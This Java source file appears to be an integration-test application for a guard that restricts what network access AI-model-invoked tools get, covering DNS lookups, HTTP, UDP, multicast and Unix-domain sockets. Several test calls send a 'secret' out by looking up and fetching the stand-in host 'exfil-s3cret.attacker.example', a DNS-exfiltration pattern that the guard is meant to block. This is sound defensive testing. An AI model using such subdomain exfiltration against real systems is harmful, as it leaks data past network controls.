package io.toolguard.it.app;

import io.toolguard.api.Risk;
import io.toolguard.api.Tool;
import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.MulticastSocket;
import java.net.NetworkInterface;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.StandardProtocolFamily;
import java.net.URI;
import java.net.UnixDomainSocketAddress;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.ByteBuffer;
import java.nio.channels.Channels;
import java.nio.channels.ServerSocketChannel;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.ConcurrentSkipListSet;

/**
 * The application of the tests of reaching out by argument: name lookups, UDP, Unix-domain sockets
 * and {@code isReachable}. Its tools are ordinary code that takes what the model gives as strings.
 * {@code NetReachApp HTTP ECHO UDP_GRANTED UDP_OTHER OUTSIDE UDP_HANDED} serves HTTP on
 * 127.0.0.1:HTTP, echoes UDP on 127.0.0.1:ECHO, binds a datagram socket to UDP_HANDED for a tool to
 * receive on, keeps sending datagrams to UDP_GRANTED, UDP_OTHER and UDP_HANDED, and listens on the
 * Unix-domain sockets {@code none}, {@code fileonly}, {@code netonly} and {@code both.sock} in the
 * folder OUTSIDE, all outside any tool; then calls each tool and prints {@code LABEL: ran: RESULT}
 * or {@code LABEL: denied: MESSAGE}, and finally which socket listeners a tool reached.
 */
public final class NetReachApp {

  private static final Set<String> REACHED = new ConcurrentSkipListSet<>();

  private NetReachApp() {}

  @Tool(name = "net_lookup", risk = Risk.LOW)
  static String lookup(String host) throws Exception {
    return InetAddress.getByName(host).getHostAddress();
  }

  @Tool(name = "net_local_host", risk = Risk.LOW)
  static String localHost() throws Exception {
    return InetAddress.getLocalHost().getHostAddress();
  }

  @Tool(name = "net_host_name", risk = Risk.LOW)
  static String hostName(String address) throws Exception {
    return InetAddress.getByName(address).getCanonicalHostName();
  }

  @Tool(name = "net_fetch", risk = Risk.LOW)
  static String fetch(String url) throws Exception {
    return "HTTP "
        + HttpClient.newHttpClient()
            .send(
                HttpRequest.newBuilder(URI.create(url)).build(),
                HttpResponse.BodyHandlers.discarding())
            .statusCode();
  }

  @Tool(name = "net_ping", risk = Risk.LOW)
  static String ping(String address) throws Exception {
    return String.valueOf(InetAddress.getByName(address).isReachable(2000));
  }

  @Tool(name = "net_udp_listen", risk = Risk.LOW)
  static String udpListen(String port) throws Exception {
    try (DatagramSocket socket =
        new DatagramSocket(new InetSocketAddress("127.0.0.1", Integer.parseInt(port)))) {
      socket.setSoTimeout(5000);
      DatagramPacket packet = new DatagramPacket(new byte[64], 64);
      socket.receive(packet);
      return new String(packet.getData(), 0, packet.getLength(), StandardCharsets.UTF_8);
    }
  }

  @Tool(name = "net_udp_ask", risk = Risk.LOW)
  static String udpAsk(String port, String connected) throws Exception {
    InetSocketAddress server = new InetSocketAddress("127.0.0.1", Integer.parseInt(port));
    try (DatagramSocket socket = new DatagramSocket()) {
      socket.setSoTimeout(5000);
      if (Boolean.parseBoolean(connected)) {
        socket.connect(server);
      }
      socket.send(new DatagramPacket("ping".getBytes(StandardCharsets.UTF_8), 4, server));
      DatagramPacket packet = new DatagramPacket(new byte[64], 64);
      socket.receive(packet);
      return new String(packet.getData(), 0, packet.getLength(), StandardCharsets.UTF_8);
    }
  }

  /** A datagram socket the application bound outside any tool. */
  private static DatagramSocket handed;

  @Tool(name = "net_udp_handed", risk = Risk.LOW)
  static String udpHanded() throws Exception {
    handed.setSoTimeout(5000);
    DatagramPacket packet = new DatagramPacket(new byte[64], 64);
    handed.receive(packet);
    return new String(packet.getData(), 0, packet.getLength(), StandardCharsets.UTF_8);
  }

  @Tool(name = "net_multicast", risk = Risk.LOW)
  static String multicast(String group) throws Exception {
    try (MulticastSocket socket = new MulticastSocket(0)) {
      socket.joinGroup(
          new InetSocketAddress(InetAddress.getByName(group), 0),
          NetworkInterface.getByInetAddress(InetAddress.getLoopbackAddress()));
      return "joined";
    }
  }

  @Tool(name = "net_unix_send", risk = Risk.LOW)
  static String unixSend(String path, String message) throws Exception {
    try (SocketChannel channel = SocketChannel.open(StandardProtocolFamily.UNIX)) {
      channel.connect(UnixDomainSocketAddress.of(path));
      channel.write(ByteBuffer.wrap((message + "\n").getBytes(StandardCharsets.UTF_8)));
      return "sent";
    }
  }

  @Tool(name = "net_unix_listen", risk = Risk.LOW)
  static String unixListen(String path) throws Exception {
    try (ServerSocketChannel server = ServerSocketChannel.open(StandardProtocolFamily.UNIX)) {
      server.bind(UnixDomainSocketAddress.of(path));
      Files.delete(Path.of(path));
      return "listening";
    }
  }

  public static void main(String[] args) throws Exception {
    int http = Integer.parseInt(args[0]);
    int echo = Integer.parseInt(args[1]);
    int udpGranted = Integer.parseInt(args[2]);
    int udpOther = Integer.parseInt(args[3]);
    Path outside = Path.of(args[4]);
    int udpHanded = Integer.parseInt(args[5]);
    InetAddress loopback = InetAddress.getByName("127.0.0.1");
    serveHttp(new ServerSocket(http, 50, loopback));
    echoUdp(new DatagramSocket(echo, loopback));
    handed = new DatagramSocket(udpHanded, loopback);
    sendForever(loopback, udpGranted, udpOther, udpHanded);
    for (String name : List.of("none", "fileonly", "netonly", "both")) {
      acceptUnix(outside.resolve(name + ".sock"));
    }
    Files.createSymbolicLink(Path.of("link.sock"), outside.resolve("none.sock"));

    String exfil = "exfil-s3cret.attacker.example";
    ToolApp.call("lookup exfil", () -> lookup(exfil), true);
    ToolApp.call("lookup granted", () -> lookup("api.granted.example"), true);
    ToolApp.call("lookup literal", () -> lookup("127.0.0.9"), true);
    ToolApp.call("lookup localhost", () -> lookup("localhost"), true);
    ToolApp.call("this machine's name", NetReachApp::localHost, true);
    ToolApp.call("HttpClient exfil", () -> fetch("http://" + exfil + ":" + http + "/"), true);
    ToolApp.call(
        "HttpClient granted", () -> fetch("http://api.granted.example:" + http + "/"), true);
    ToolApp.call("reverse other", () -> hostName("127.0.0.3"), true);
    ToolApp.call("reverse granted", () -> hostName("127.0.0.1"), true);
    ToolApp.call("isReachable other", () -> ping("127.0.0.1"), true);
    ToolApp.call("isReachable granted", () -> ping("127.0.0.5"), true);
    ToolApp.call("UDP listen other", () -> udpListen(String.valueOf(udpOther)), true);
    ToolApp.call("UDP listen granted", () -> udpListen(String.valueOf(udpGranted)), true);
    ToolApp.call("UDP unconnected reply", () -> udpAsk(String.valueOf(echo), "false"), true);
    ToolApp.call("UDP connected reply", () -> udpAsk(String.valueOf(echo), "true"), true);
    ToolApp.call("UDP socket bound outside the tool", NetReachApp::udpHanded, true);
    ToolApp.call("multicast join other", () -> multicast("230.0.0.1"), true);
    ToolApp.call("multicast join granted", () -> multicast("230.0.0.2"), true);
    for (String name : List.of("none", "fileonly", "netonly", "both")) {
      String path = outside.resolve(name + ".sock").toString();
      ToolApp.call("unix " + name, () -> unixSend(path, name), true);
    }
    ToolApp.call("unix via link", () -> unixSend("link.sock", "link"), true);
    ToolApp.call(
        "unix bind outside", () -> unixListen(outside.resolve("new.sock").toString()), true);
    ToolApp.call("unix bind granted", () -> unixListen("own.sock"), true);
    ToolApp.call("outside a tool", () -> InetAddress.getByName(exfil).getHostAddress(), true);
    // Each listener records what it received; give the last ones a moment.
    Thread.sleep(300);
    System.out.println("listeners reached: " + new TreeSet<>(REACHED));
    System.exit(0);
  }

  /** Answers every connection with a small HTTP response, on a thread started outside any tool. */
  private static void serveHttp(ServerSocket server) {
    daemon(
        () -> {
          while (true) {
            try (Socket client = server.accept()) {
              client.getInputStream().read(new byte[1024]);
              client
                  .getOutputStream()
                  .write(
                      "HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                          .getBytes(StandardCharsets.UTF_8));
            } catch (Exception ignored) {
              // the next connection
            }
          }
        });
  }

  /** Answers each datagram with {@code pong}. */
  private static void echoUdp(DatagramSocket socket) {
    daemon(
        () -> {
          while (true) {
            try {
              DatagramPacket packet = new DatagramPacket(new byte[64], 64);
              socket.receive(packet);
              socket.send(
                  new DatagramPacket(
                      "pong".getBytes(StandardCharsets.UTF_8), 4, packet.getSocketAddress()));
            } catch (Exception ignored) {
              // the next datagram
            }
          }
        });
  }

  /** Sends {@code hello} to each port every 50 ms, for a tool that listens there. */
  private static void sendForever(InetAddress to, int... ports) throws Exception {
    DatagramSocket socket = new DatagramSocket();
    daemon(
        () -> {
          while (true) {
            try {
              for (int port : ports) {
                socket.send(
                    new DatagramPacket("hello".getBytes(StandardCharsets.UTF_8), 5, to, port));
              }
              Thread.sleep(50);
            } catch (Exception ignored) {
              // the next round
            }
          }
        });
  }

  /** Listens on a Unix-domain socket and records the line each client sends. */
  private static void acceptUnix(Path path) throws Exception {
    ServerSocketChannel server = ServerSocketChannel.open(StandardProtocolFamily.UNIX);
    server.bind(UnixDomainSocketAddress.of(path));
    daemon(
        () -> {
          while (true) {
            try (SocketChannel client = server.accept();
                BufferedReader in =
                    new BufferedReader(
                        new InputStreamReader(
                            Channels.newInputStream(client), StandardCharsets.UTF_8))) {
              REACHED.add(path.getFileName() + " got " + in.readLine());
            } catch (Exception ignored) {
              // the next client
            }
          }
        });
  }

  private static void daemon(Runnable work) {
    Thread thread = new Thread(work);
    thread.setDaemon(true);
    thread.start();
  }
}
